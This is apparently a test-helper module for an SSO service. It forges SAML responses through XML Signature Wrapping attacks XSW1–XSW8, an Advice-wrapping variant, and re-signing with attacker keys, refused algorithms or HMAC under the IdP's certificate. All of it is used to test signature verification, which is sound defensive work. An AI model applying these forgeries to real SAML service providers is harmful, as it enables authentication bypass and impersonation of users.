"""Tree surgery on genuinely signed responses: what an attacker (or a misbehaving IdP) sends.

``resign`` signs with any key and any algorithm through the xmlsec binding directly, so a
test can build an assertion "genuinely signed by the IdP" with content the IdP would not
normally issue, or a signature with a refused algorithm, or one made with an attacker's key.
"""

from __future__ import annotations

import base64
import copy
from collections.abc import Callable

import xmlsec
from lxml import etree

from sso_core.saml.certificates import certificate_der
from sso_core.saml.xml_names import NS_DS, NS_SAML, NS_SAMLP

NS = {"samlp": NS_SAMLP, "saml": NS_SAML, "ds": NS_DS}
EVIL = "attacker@evil.example"


def parse(xml: str) -> etree._Element:
    return etree.fromstring(xml.encode("utf-8"))


def serialise(root: etree._Element) -> str:
    return etree.tostring(root, encoding="unicode")


def one(root: etree._Element, path: str) -> etree._Element:
    found = root.xpath(path, namespaces=NS)
    assert len(found) == 1, (path, len(found))
    return found[0]


def assertion_of(root: etree._Element) -> etree._Element:
    return one(root, "/samlp:Response/saml:Assertion")


def signature_of(element: etree._Element) -> etree._Element:
    found = element.findall(f"{{{NS_DS}}}Signature")
    assert len(found) == 1
    return found[0]


def remove(element: etree._Element) -> None:
    element.getparent().remove(element)


def set_name_id(assertion: etree._Element, value: str) -> None:
    assertion.find(f"{{{NS_SAML}}}Subject/{{{NS_SAML}}}NameID").text = value
    for attribute_value in assertion.iterfind(f".//{{{NS_SAML}}}AttributeValue"):
        if attribute_value.text and "@" in attribute_value.text:
            attribute_value.text = value


def resign(
    element: etree._Element,
    key_pem: str,
    cert_pem: str | None,
    *,
    sign_method: object = xmlsec.constants.TransformRsaSha256,
    digest_method: object = xmlsec.constants.TransformSha256,
    c14n_method: object = xmlsec.constants.TransformExclC14N,
    hmac_secret: bytes | None = None,
) -> None:
    """Replace the element's enveloped signature with a fresh one (after its Issuer)."""
    for old in element.findall(f"{{{NS_DS}}}Signature"):
        element.remove(old)
    signature = xmlsec.template.create(element, c14n_method, sign_method, ns="ds")
    issuer = element.find(f"{{{NS_SAML}}}Issuer")
    element.insert(0 if issuer is None else element.index(issuer) + 1, signature)
    reference = xmlsec.template.add_reference(signature, digest_method, uri="#" + element.get("ID"))
    xmlsec.template.add_transform(reference, xmlsec.constants.TransformEnveloped)
    xmlsec.template.add_transform(reference, c14n_method)
    if cert_pem is not None and hmac_secret is None:
        x509 = xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(signature))
        xmlsec.template.x509_data_add_certificate(x509)
    context = xmlsec.SignatureContext()
    if hmac_secret is not None:
        context.key = xmlsec.Key.from_binary_data(xmlsec.constants.KeyDataHmac, hmac_secret)
    else:
        key = xmlsec.Key.from_memory(key_pem.encode(), xmlsec.constants.KeyDataFormatPem)
        if cert_pem is not None:
            key.load_cert_from_memory(cert_pem.encode(), xmlsec.constants.KeyDataFormatCertPem)
        context.key = key
    context.register_id(element, "ID")
    context.sign(signature)
    if cert_pem is not None and hmac_secret is not None:
        # HMAC keys carry no certificate; an attacker still shows the IdP's, to look genuine.
        key_info = etree.SubElement(signature, f"{{{NS_DS}}}KeyInfo")
        x509_data = etree.SubElement(key_info, f"{{{NS_DS}}}X509Data")
        etree.SubElement(x509_data, f"{{{NS_DS}}}X509Certificate").text = cert_body(cert_pem)


def cert_body(cert_pem: str) -> str:
    return base64.b64encode(certificate_der(cert_pem)).decode()


# --- the eight classic signature wrapping attacks (Somorovsky et al., "On Breaking SAML";
# SAML Raider's XSW1-XSW8). The genuine signed element is kept intact; the clone is edited.


def _evil_assertion(assertion: etree._Element, *, keep_signature: bool, new_id: bool = True) -> etree._Element:
    evil = copy.deepcopy(assertion)
    if not keep_signature:
        for signature in evil.findall(f"{{{NS_DS}}}Signature"):
            evil.remove(signature)
    if new_id:
        evil.set("ID", "_evil_assertion")
    set_name_id(evil, EVIL)
    return evil


def _unsigned_copy(element: etree._Element) -> etree._Element:
    clone = copy.deepcopy(element)
    for signature in clone.findall(f"{{{NS_DS}}}Signature"):
        clone.remove(signature)
    return clone


def xsw1(root: etree._Element) -> etree._Element:
    """Signed Response: an unsigned copy of it goes inside its Signature; the root becomes the evil one."""
    original = _unsigned_copy(root)
    signature_of(root).append(original)
    root.set("ID", "_evil_response")
    set_name_id(assertion_of(root), EVIL)
    return root


def xsw2(root: etree._Element) -> etree._Element:
    """Signed Response: an unsigned copy of it goes before its Signature (detached signature)."""
    original = _unsigned_copy(root)
    signature = signature_of(root)
    root.insert(root.index(signature), original)
    root.set("ID", "_evil_response")
    set_name_id(assertion_of(root), EVIL)
    return root


def xsw3(root: etree._Element) -> etree._Element:
    """An evil unsigned assertion inserted before the genuine signed one."""
    assertion = assertion_of(root)
    root.insert(root.index(assertion), _evil_assertion(assertion, keep_signature=False))
    return root


def xsw4(root: etree._Element) -> etree._Element:
    """The evil assertion replaces the genuine one, which becomes its child."""
    assertion = assertion_of(root)
    evil = _evil_assertion(assertion, keep_signature=False)
    root.replace(assertion, evil)
    evil.append(assertion)
    return root


def xsw5(root: etree._Element) -> etree._Element:
    """The evil assertion keeps the signature; an unsigned copy of the genuine one is appended."""
    assertion = assertion_of(root)
    evil = _evil_assertion(assertion, keep_signature=True)
    root.replace(assertion, evil)
    root.append(_unsigned_copy(assertion))
    return root


def xsw6(root: etree._Element) -> etree._Element:
    """The evil assertion keeps the signature, which holds an unsigned copy of the genuine one."""
    assertion = assertion_of(root)
    evil = _evil_assertion(assertion, keep_signature=True)
    root.replace(assertion, evil)
    signature_of(evil).append(_unsigned_copy(assertion))
    return root


def xsw7(root: etree._Element) -> etree._Element:
    """The genuine assertion hidden in an Extensions element; the evil one, unsigned, in its place."""
    assertion = assertion_of(root)
    evil = _evil_assertion(assertion, keep_signature=False)
    extensions = etree.Element(f"{{{NS_SAMLP}}}Extensions")
    root.insert(1, extensions)
    root.replace(assertion, evil)
    extensions.append(assertion)
    return root


def xsw8(root: etree._Element) -> etree._Element:
    """The evil assertion keeps the signature; a ds:Object inside it holds the genuine one, unsigned."""
    assertion = assertion_of(root)
    evil = _evil_assertion(assertion, keep_signature=True)
    root.replace(assertion, evil)
    obj = etree.SubElement(signature_of(evil), f"{{{NS_DS}}}Object")
    obj.append(_unsigned_copy(assertion))
    return root


def advice_wrapping(root: etree._Element) -> etree._Element:
    """The genuine signed assertion hidden in the Advice of an evil unsigned one.

    The case that ruled out pysaml2's built-in signature backend (docs/decisions.md).
    """
    assertion = assertion_of(root)
    evil = _evil_assertion(assertion, keep_signature=False)
    root.replace(assertion, evil)
    advice = etree.Element(f"{{{NS_SAML}}}Advice")
    conditions = evil.find(f"{{{NS_SAML}}}Conditions")
    evil.insert(evil.index(conditions) + 1, advice)
    advice.append(assertion)
    return root


XSW: dict[str, Callable[[etree._Element], etree._Element]] = {
    "XSW1": xsw1,
    "XSW2": xsw2,
    "XSW3": xsw3,
    "XSW4": xsw4,
    "XSW5": xsw5,
    "XSW6": xsw6,
    "XSW7": xsw7,
    "XSW8": xsw8,
    "advice": advice_wrapping,
}
RESPONSE_WRAPPING = {"XSW1", "XSW2"}


def encrypted_assertion(assertion: etree._Element, recipient_cert_pem: str) -> etree._Element:
    """A real EncryptedAssertion (AES-256-GCM, key wrapped with RSA-OAEP for the SP's certificate)."""
    wrapper = etree.Element(f"{{{NS_SAML}}}EncryptedAssertion", nsmap={"saml": NS_SAML})
    wrapper.append(assertion)
    template = xmlsec.template.encrypted_data_create(
        wrapper, xmlsec.constants.TransformAes256Gcm, type=xmlsec.constants.TypeEncElement, ns="xenc"
    )
    xmlsec.template.encrypted_data_ensure_cipher_value(template)
    key_info = xmlsec.template.encrypted_data_ensure_key_info(template, ns="dsig")
    encrypted_key = xmlsec.template.add_encrypted_key(key_info, xmlsec.constants.TransformRsaOaep)
    xmlsec.template.encrypted_data_ensure_cipher_value(encrypted_key)
    manager = xmlsec.KeysManager()
    manager.add_key(xmlsec.Key.from_memory(recipient_cert_pem.encode(), xmlsec.constants.KeyDataFormatCertPem))
    context = xmlsec.EncryptionContext(manager)
    context.key = xmlsec.Key.generate(xmlsec.constants.KeyDataAes, 256, xmlsec.constants.KeyDataTypeSession)
    context.encrypt_xml(template, assertion)
    return wrapper
